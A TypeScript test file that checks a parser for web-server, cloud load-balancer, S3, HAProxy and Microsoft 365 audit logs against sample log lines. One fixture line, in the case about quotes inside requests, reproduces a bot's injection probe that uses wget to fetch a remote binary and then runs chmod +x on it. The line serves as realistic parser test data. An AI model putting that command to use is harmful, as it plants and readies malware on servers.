import fs from "node:fs";
import path from "node:path";
import { expect, test } from "vitest";
import { temporaryFolder } from "../../../temporary.ts";
import { readFile } from "../encode-file.ts";

interface Lines {
  readonly what: string;
  readonly format: string;
  readonly text: string;
  readonly events: readonly object[];
}

const at = '[05/Jun/2016:15:26:53 +0200] "GET /a HTTP/1.1" 200 1 "-" "x"';
const s3 = (tail: string) => `f383 bkt-1 [20/Jun/2019:03:51:36 +0000] ${tail}`;
const hidden = "- uid= - ECDHE-RSA-AES128-GCM-SHA256 - bkt-1.s3.amazonaws.com TLSv1.2";

const cases: readonly Lines[] = [
  {
    what: "the user is everything between ident and [ (httpd mod_log_config: %h %l %u %t)",
    format: "combined",
    text: [
      `192.0.2.5 - Kim Lee ${at}`,
      `192.0.2.6 - ACME\\Kim van Lee ${at}`,
      `192.0.2.7 - kim@example.org ${at}`,
      `192.0.2.8 - "" ${at}`,
      `192.0.2.9 - \\"kim \\" ${at}`,
    ].join("\n"),
    events: [
      { ip: "192.0.2.5", actor: "Kim Lee" },
      { ip: "192.0.2.6", actor: "ACME\\Kim van Lee" },
      { ip: "192.0.2.7", actor: "kim@example.org" },
      { ip: "192.0.2.8", actor: undefined },
      { ip: "192.0.2.9", actor: '"kim "' },
    ],
  },
  {
    what: "the client is an address or a host name, with the virtual host or the proxies before it or not",
    format: "combined",
    text: [
      `2001:db8::7 - - ${at}`,
      `host.example.org - kim lee ${at}`,
      `www.example.org:80 192.0.2.3 - kim lee ${at}`,
      `www.example.org client.example.net - - ${at}`,
      `198.51.100.20, 10.1.1.1 (10.0.0.4) - - ${at}`,
      `192.0.2.1 -> 10.0.0.2:80 ${at}`,
    ].join("\n"),
    events: [
      { ip: "2001:db8::7" },
      { ip: "host.example.org", actor: "kim lee" },
      { ip: "192.0.2.3", actor: "kim lee" },
      { ip: "client.example.net", actor: undefined },
      { ip: "198.51.100.20", actor: undefined },
      { ip: "192.0.2.1", actor: undefined },
    ],
  },
  {
    what: "requests that are no request, and quotes inside quotes",
    format: "combined",
    text: [
      `192.0.2.2 - - [23/Apr/2019:13:40:39 +0200] "GET /index.php?s=/x&vars[1][]= 'wget http://192.0.2.9/x -O .A; chmod +x .A;' HTTP/1.1" 400 166 "-" "Akari(selfrep)" "-"`,
      '192.0.2.3 - - [05/Jun/2016:15:26:51 +0200] "\\x99\\xf3\\x0fF" 501 308 "-" "-"',
      '192.0.2.4 - - [05/Jun/2016:15:26:52 +0200] "" 408 - "-" "-"',
      '192.0.2.5 - - [05/Jun/2016:15:26:53 +0200] "GET /a\\"b HTTP/1.1" 200 - "http://x/?q=\\"a\\"" "Mo \\"z\\" 5"',
      '192.0.2.6 - - [05/Jun/2016:15:26:55 +0200] "-" 400 0 "-" "-"',
      '192.0.2.7 - - [05/Jun/2016:15:26:56 +0200] "GET /a b HTTP/1.1" 404 151 "-" "curl"',
      '192.0.2.8 - - [05/Jun/2016:15:26:56 +0200] "GET /a"b HTTP/1.1" 404 151 "-" "Mo "z" 5"',
    ].join("\n"),
    events: [
      { status: 400, path: "/index.php" },
      { status: 501, ip: "192.0.2.3" },
      { status: 408, outcome: "failed" },
      { status: 200, path: '/a"b', user_agent: 'Mo "z" 5' },
      { status: 400 },
      { status: 404, path: "/a b" },
      { status: 404, path: '/a"b', user_agent: 'Mo "z" 5' },
    ],
  },
  {
    what: "API Gateway's CLF has no blank before the request, and the request id at the end (developer guide, set up logging)",
    format: "combined",
    text: [
      '192.0.2.40 - - [10/Jun/2023:15:36:28 +0000]"GET /circles/{id}/members HTTP/1.1" 200 184 48752d0f-c99d-4cfa-a5a7-f3c6834d19e5',
      '192.0.2.41 - u17 [10/Jun/2023:15:36:29 +0000]"GET /circles/{id}/members HTTP/1.1" 403 84 48752d0f-c99d-4cfa-a5a7-f3c6834d19e6',
    ].join("\n"),
    events: [
      { status: 200, path: "/circles/{id}/members", request_id: "48752d0f-c99d-4cfa-a5a7-f3c6834d19e5" },
      { status: 403, outcome: "denied", actor: "u17" },
    ],
  },
  {
    what: "S3 lines are fixed from both ends, so quotes inside them survive; copies and batch deletions have no request (S3 user guide, LogFormat)",
    format: "aws-s3",
    text: [
      s3(
        `192.0.2.4 - R1 REST.GET.OBJECT %2522 "GET /" HTTP/1.1" 403 AccessDenied 243 - 8 - "referer test" "curl/7.38.0" ${hidden}`,
      ),
      s3(
        `192.0.2.5 - R2 REST.GET.OBJECT a/l.txt "GET /a/l.txt HTTP/1.1" 200 - 49851 49851 23 22 "http://x.example/?id=4"" "Mozilla/5.0 (iPad) Safari/604.1"" ${hidden}`,
      ),
      s3('- arn:aws:iam::1:user/j R3 S3.EXPIRE.OBJECT old.txt "-" - - - 120 - - "-" "-" - hid= - - - - -'),
      s3(`192.0.2.3 acme R4 BATCH.DELETE.OBJECT people/b.json - 403 AccessDenied - 9 - - - - ${hidden} - - us-east-1`),
      s3(`192.0.2.3 acme R5 REST.COPY.OBJECT_GET src/m.csv - 200 - - 1024 - - - - ${hidden} - - us-east-1`),
    ].join("\n"),
    events: [
      { status: 403, outcome: "denied", ip: "192.0.2.4", path: '/"', user_agent: "curl/7.38.0" },
      { status: 200, bytes: 49851, user_agent: 'Mozilla/5.0 (iPad) Safari/604.1"' },
      { operation: "S3.EXPIRE.OBJECT", actor: "arn:aws:iam::1:user/j", status: undefined },
      { operation: "BATCH.DELETE.OBJECT", status: 403, outcome: "denied" },
      { operation: "REST.COPY.OBJECT_GET", status: 200, outcome: "allowed" },
    ],
  },
  {
    what: "a TCP listener of a classic load balancer writes no request (ELB guide, access logs)",
    format: "aws-elb",
    text: [
      '2017-11-23T01:24:08.529348Z my-elb 192.0.2.206:34140 10.0.1.48:443 0.000744 0.000009 0.000012 - - 710 31845 "- - - " "-" - -',
      '2017-11-23T01:25:15.198480Z my-elb 192.0.2.202:57383 10.0.1.48:80 0.00004 0.000869 0.000021 301 301 0 0 "GET http://shop.example.org:80/a?c="ES" HTTP/1.1" "Mozilla/5.0 "x"" - -',
    ].join("\n"),
    events: [
      { time: "2017-11-23T01:24:08.529348Z", ip: "192.0.2.206", bytes: 31845, status: undefined, method: undefined },
      { status: 301, method: "GET", path: "/a", user_agent: 'Mozilla/5.0 "x"' },
    ],
  },
  {
    what: "a call through an application load balancer was made when the request was, not when a socket closed (ELB guide: request_creation_time)",
    format: "aws-alb",
    text: [
      'wss 2026-04-01T06:00:00.000000Z app/l/5 192.0.2.13:2820 10.0.0.2:80 0.000 0.001 0.000 101 101 218 500 "GET https://api.orbit.example:443/stream HTTP/1.1" "ws/1" ECDHE TLSv1.2 arn:g "Root=1-5" "api.orbit.example" "-" 1 2026-03-31T22:00:00.000000Z "forward" "-" "-" "10.0.0.2:80" "101" "-" "-" TID_y "-" "-" "-"',
    ].join("\n"),
    events: [{ time: "2026-03-31T22:00:00Z", path: "/stream", request_id: "Root=1-5" }],
  },
  {
    what: "a bad request has its status before the request (HAProxy configuration, 8.2.3)",
    format: "haproxy",
    text: [
      'Dec 10 15:48:56 gw haproxy[7873]: 192.0.2.1:44542 [10/Dec/2018:15:48:56.017] http-web~ http-web/s1 0/0/1/4/5 403 213 - - ---- 1/1/0/0/0 0/0 {localhost:8888||} {|} "GET /foo HTTP/1.1"',
      'Dec 10 15:49:00 gw haproxy[7873]: 192.0.2.1:36122 [10/Dec/2018:15:48:59.875] http-in~ http-in/<NOSRV> -1/-1/-1/-1/5054 400 187 - - CR-- 1/1/0/0/3 0/0 "<BADREQ>"',
    ].join("\n"),
    events: [
      { status: 403, path: "/foo" },
      { status: 400, outcome: "failed", path: undefined },
    ],
  },
  {
    what: "an audit record cut off in AuditData keeps the columns beside it: when, who, what",
    format: "m365-audit-csv",
    text: [
      "RecordId,CreationDate,RecordType,Operation,UserId,AuditData",
      '8-1,2025-09-29T01:01:01.0000000Z,6,FileDownloaded,ann@orbit.example,"{""CreationTime"":""2025-09-29T01:01:01"",""Id"":""8-1"",""Operation"":""FileDownloaded"",""Workload"":""SharePoint"",""ClientIP"":""203.0.113.5"",""UserId"":""ann@orbit.example"",""ObjectId"":""https://x/1""}"',
      '8-2,2025-09-29T01:03:01.0000000Z,25,MessagesListed,ann@orbit.example,"{""CreationTime"":""2025-09-29T01:03:01"",""Id"":""8-2"",""Organiza"',
    ].join("\n"),
    events: [
      { time: "2025-09-29T01:01:01Z", resource: "https://x/1" },
      { time: "2025-09-29T01:03:01Z", operation: "MessagesListed", actor: "ann@orbit.example", request_id: "8-2" },
    ],
  },
];

test.each(cases)("$format: $what", async ({ format, text, events }) => {
  const file = path.join(temporaryFolder(), "input.log");
  fs.writeFileSync(file, `${text}\n`);
  const read = await readFile(file);
  expect(read.detection.resolved.format).toBe(format);
  expect(read.rejects).toEqual([]);
  expect(read.events.length).toBe(events.length);
  read.events.forEach((event, index) => {
    for (const [field, value] of Object.entries(events[index] as object))
      expect(event[field as keyof typeof event], `${field} of record ${index + 1}`).toEqual(value);
  });
});
